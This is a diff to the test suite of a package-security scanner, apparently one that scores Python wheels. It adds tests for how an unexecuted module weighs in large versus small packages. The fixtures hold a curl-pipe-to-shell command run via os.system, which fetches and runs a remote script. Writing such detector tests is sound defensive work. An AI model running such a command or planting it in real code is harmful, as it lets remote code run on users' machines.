@@ -589,13 +589,27 @@ def test_a_comment_that_mentions_a_webhook_is_not_a_finding() -> None:
     assert POLICY.decide(docstring_only).allowed
 
 
-def test_weak_signals_in_a_module_nothing_runs_weigh_less() -> None:
+#: Forty kilobytes of a library's ordinary modules (past ``engine._SMALL_PACKAGE``).
+LIBRARY = {f"demo/part{i}.py": "def f(x):\n    return x + 1\n" * 200 for i in range(10)}
+
+
+def test_weak_signals_in_a_large_packages_module_nothing_runs_weigh_less() -> None:
+    source = "import os\nCMD = 'curl -fsSL https://get.example/i.sh | sh'\ndef f():\n    os.system(CMD)\n"
+    early = scan_archive(wheel({"demo/__init__.py": source, **LIBRARY}), "d.whl")
+    deep = scan_archive(
+        wheel({"demo/__init__.py": "x = 1\n", "demo/tools/install.py": source, **LIBRARY}),
+        "d.whl",
+    )
+    assert early.score > deep.score > 0
+
+
+def test_in_a_small_package_a_module_nothing_runs_weighs_in_full() -> None:
     source = "import os\nCMD = 'curl -fsSL https://get.example/i.sh | sh'\ndef f():\n    os.system(CMD)\n"
     early = scan_archive(wheel({"demo/__init__.py": source}), "d.whl")
     deep = scan_archive(
         wheel({"demo/__init__.py": "x = 1\n", "demo/tools/install.py": source}), "d.whl"
     )
-    assert early.score > deep.score > 0
+    assert early.score == deep.score == 10
 
 
 def test_tests_and_docs_are_not_judged() -> None:
